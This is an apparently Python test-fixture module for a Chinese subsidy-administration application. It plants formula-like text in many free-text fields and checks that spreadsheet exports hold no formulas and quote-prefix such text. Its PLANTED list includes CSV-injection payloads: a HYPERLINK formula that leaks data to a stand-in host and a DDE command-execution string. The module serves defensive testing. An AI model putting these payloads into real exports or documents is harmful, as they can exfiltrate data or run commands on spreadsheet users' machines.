"""A year whose every free-text field an export shows holds formula-like text, entered through the
services people use (and the institution import), for the formula-safety tests."""

import io
import json
import uuid
import zipfile
from dataclasses import dataclass, field, replace
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from guifan.core import xlsx
from guifan.core.xlsx import FORMULA_PREFIXES
from guifan.evaluation import services as evaluation_services
from guifan.evaluation.models import Evaluation, Indicator
from guifan.funds import services as funds_services
from guifan.funds.models import Enrolment, Programme
from guifan.grading.services.standards import (
    item_rows,
    standard_for_year,
    standard_new_version,
    standard_update,
)
from guifan.registry.models import Institution
from guifan.registry.services import institution_create, institution_update, institutions_import
from guifan.surveys import services as survey_services
from guifan.surveys.domain import QuestionDraft
from guifan.surveys.loading import template_draft
from guifan.surveys.models import Questionnaire
from tests.factories import operator_of, region
from tests.registry.sheets import STANDARD_HEADER, standard_row

# What an attacker types: a link that leaks data when clicked, DDE command execution, and the
# other first characters spreadsheets read as a formula (OWASP "CSV Injection").
HYPERLINK = '=HYPERLINK("http://evil.example/?x","点我")'
PLANTED = [HYPERLINK, "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
WAN = 1_000_000
YEAR = 2023


@dataclass
class World:
    """The objects planted, and the exact texts each export must show (as whole cells)."""

    programme: Programme
    evaluation: Evaluation
    questionnaire: Questionnaire
    shown: dict[str, list[str]] = field(default_factory=dict)


def plant(city, panlong) -> World:
    """Everything below is typed in by the city administrator, a county officer, an operator or a
    survey respondent; nothing is written to the database behind the services' back except the
    council's acceptance of one institution (the grading workflow's job, as in tests/funds)."""
    registry = _registry(city)
    programme, ledger, counties = _funds(city, panlong)
    evaluation, declaration, self_evaluation, indicators = _evaluation(city, programme)
    questionnaire, results, answers = _survey(city)
    return World(
        programme=programme,
        evaluation=evaluation,
        questionnaire=questionnaire,
        shown={
            "institutions": registry,
            "ledger": ledger,
            "counties": counties,
            "declaration": declaration,
            "self_evaluation": self_evaluation,
            "indicators": indicators,
            "survey_results": results,
            "survey_answers": answers,
            "standard": _standard(city),
        },
    )


def _registry(city) -> list[str]:
    """Seven institutions typed in (五华区), one operator's own address, seven imported (西山区)."""
    for i, text in enumerate(PLANTED):
        institution_create(
            by=city,
            data={
                "name": text,
                "county": region("五华区"),
                "address": PLANTED[(i + 1) % 7],
                "responsible_person": PLANTED[(i + 2) % 7],
                "phone": f"1390000{i:04d}",
            },
        )
    own = institution_create(
        by=city,
        data={
            "name": "五华区某按摩店",
            "county": region("五华区"),
            "responsible_person": "张三",
            "phone": "13900009999",
        },
    )
    institution_update(by=operator_of(own), institution_id=own.pk, data={"address": HYPERLINK})
    rows = [
        standard_row(name=f"{text}{i}", county="西山区", person=text, phone=f"1380000{i:04d}", 经营地址=text)
        for i, text in enumerate(PLANTED)
    ]
    institutions_import(by=city, source=text_sheet([STANDARD_HEADER, *rows]))
    planted = Institution.objects.filter(county__name__in=["五华区", "西山区"])
    return sorted({v for i in planted for v in (i.name, i.address, i.responsible_person)} - {"张三", ""})


def _funds(city, panlong) -> tuple[Programme, list[str], list[str]]:
    """A 2023 year named and run by formula-like text: its budget document, the receipt, the
    transfer, a recovery and its reversal, and a payment by a county officer so named."""
    programme = funds_services.programme_create(
        by=city,
        data={
            "year": YEAR,
            "name": PLANTED[0],
            "implementing_unit": PLANTED[6],
            "subsidy_standard": 2 * WAN,
            "annual_target": 1,
        },
        counties=[region("盘龙区")],
    )
    source = funds_services.source_create(by=city, programme=programme, document=PLANTED[1], budget=4 * WAN)
    funds_services.funds_receive(
        by=city, source_id=source.pk, on=date(YEAR, 3, 1), amount=4 * WAN, document=PLANTED[2]
    )
    funds_services.funds_transfer(
        by=city,
        source_id=source.pk,
        county=region("盘龙区"),
        on=date(YEAR, 4, 1),
        amount=4 * WAN,
        document=PLANTED[3],
    )
    recovery = funds_services.funds_recover(
        by=city,
        source_id=source.pk,
        county=region("盘龙区"),
        on=date(YEAR, 5, 1),
        amount=WAN,
        reason=PLANTED[5],
    )
    funds_services.entry_reverse(by=city, entry_id=recovery.pk, on=date(YEAR, 5, 2), reason=PLANTED[6])
    paid = institution_create(
        by=city,
        data={
            "name": PLANTED[4],
            "county": region("盘龙区"),
            "responsible_person": PLANTED[5],
            "phone": "13700000001",
        },
    )
    enrolment = Enrolment.objects.create(
        programme=programme, institution=paid, accepted=True, accepted_on=date(YEAR, 6, 1)
    )
    from guifan.accounts.services import user_update

    user_update(by=city, user_id=panlong.pk, data={"full_name": PLANTED[1]})
    panlong.refresh_from_db()
    funds_services.funds_pay(
        by=panlong,
        enrolment_id=enrolment.pk,
        source_id=source.pk,
        on=date(YEAR, 7, 1),
        voucher=PLANTED[0],
        amount=2 * WAN,
    )
    ledger = [PLANTED[1], PLANTED[2], PLANTED[3], PLANTED[5], PLANTED[6], PLANTED[0], PLANTED[4]]
    return programme, ledger, [PLANTED[4], PLANTED[5]]


def _evaluation(city, programme) -> tuple[Evaluation, list[str], list[str], list[str]]:
    """The seed indicator tree with formula-like names and 评价要点, goals, a 偏差原因 and a note."""
    data = json.loads(evaluation_services.TEMPLATES["seed"].read_text(encoding="utf-8"))
    a, _, c = data["tree"]
    a["name"] = PLANTED[6]
    a1 = a["children"][0]
    a1["name"] = PLANTED[0]
    a111, a112 = a1["children"][0]["children"]
    a111.update(name=PLANTED[1], points=PLANTED[3])
    a112.update(name=PLANTED[2], points=PLANTED[5])
    c111, c112 = c["children"][0]["children"][0]["children"]  # the 数量指标 of the 申报表
    c111["name"], c112["name"] = PLANTED[4], PLANTED[5]
    evaluation = evaluation_services.evaluation_create(by=city, programme=programme, data=data)
    evaluation = evaluation_services.evaluation_goals_save(
        by=city, evaluation=evaluation, department=PLANTED[1], total_goal=PLANTED[2], annual_goal=PLANTED[3]
    )
    for code, deviation, note in [("A111", PLANTED[1], PLANTED[5]), ("A112", PLANTED[4], PLANTED[2])]:
        leaf = Indicator.objects.get(evaluation=evaluation, code=code)
        evaluation_services.indicator_score(
            by=city, indicator_id=leaf.pk, deviation=deviation, actual_note=note
        )
    # 申报表: 项目名称, 主管部门, 实施单位, 总体目标, 年度目标 and the 三级指标 of 产出指标.
    declaration = [PLANTED[0], PLANTED[1], PLANTED[6], PLANTED[2], PLANTED[3], PLANTED[4], PLANTED[5]]
    # 自评表: 项目名称 and 二级指标, 一级指标 and 实施单位, 年度总体目标, 偏差原因 and 实际完成值 (notes).
    self_evaluation = PLANTED[:]
    indicators = PLANTED[:]  # names and 评价要点
    return evaluation, declaration, self_evaluation, indicators


def _survey(city) -> tuple[Questionnaire, list[str], list[str]]:
    """A survey titled with a formula, with a free-text question answered seven ways online."""
    from guifan.surveys.models import Distribution

    draft = template_draft("kunming-2022-survey")
    draft = replace(
        draft,
        questions=(*draft.questions, QuestionDraft(text="其他意见和建议", kind="text", required=False)),
    )
    programme = Programme.objects.get(year=YEAR)
    questionnaire = survey_services.questionnaire_create_from(
        by=city, programme=programme, draft=draft, title=PLANTED[0], surveyed_counties=[region("盘龙区")]
    )
    distribution = survey_services.distribution_create(
        by=city, questionnaire=questionnaire, name="共用链接", per_device_limit=10
    )
    distribution = Distribution.objects.get(pk=distribution.pk)
    questions = list(questionnaire.questions.order_by("number"))
    for text in PLANTED:
        answers = {
            q.id: (text if q.kind == "text" else str(q.options.order_by("key").first().id)) for q in questions
        }
        survey_services.response_submit(
            distribution=distribution, key=uuid.uuid4(), answers=answers, final=True, device="phone"
        )
    return questionnaire, [PLANTED[0]], PLANTED[:]


def _standard(city) -> list[str]:
    """A new version of the standard with formula-like item names, requirements and grades."""
    standard = standard_new_version(by=city, standard=standard_for_year(YEAR), name="公式测试标准")
    rows = item_rows(standard)
    for k, row in enumerate(rows[:7]):
        row.update(title=PLANTED[k], requirement=PLANTED[(k + 3) % 7])
    bands = [(n, Decimal(b["minimum"]), PLANTED[n]) for n, b in enumerate(standard.bands)]
    standard_update(by=city, standard_id=standard.pk, items=list(enumerate(rows, start=1)), bands=bands)
    return PLANTED[:]


def text_sheet(rows: list[list]) -> io.BytesIO:
    """An upload whose cells hold the text as text, as a spreadsheet typed by hand does (openpyxl's
    own append, which tests/registry/sheets.py uses, would store "=…" as a formula)."""
    workbook, sheet = xlsx.new_workbook("机构")
    for row in rows:
        xlsx.append_row(sheet, row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def formula_free_texts(content: bytes) -> list[str]:
    """Every string cell of the workbook, after checking no sheet holds a formula: no <f> element in
    the sheet XML, no cell openpyxl reads as a formula, and formula-like text quote-prefixed (so
    Excel, WPS and LibreOffice keep it text when someone edits the cell)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml and "<f/>" not in xml, name
    texts = []
    workbook = load_workbook(io.BytesIO(content))  # not data_only: formulas would read as data_type "f"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_PREFIXES):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} not quoted"
    return texts
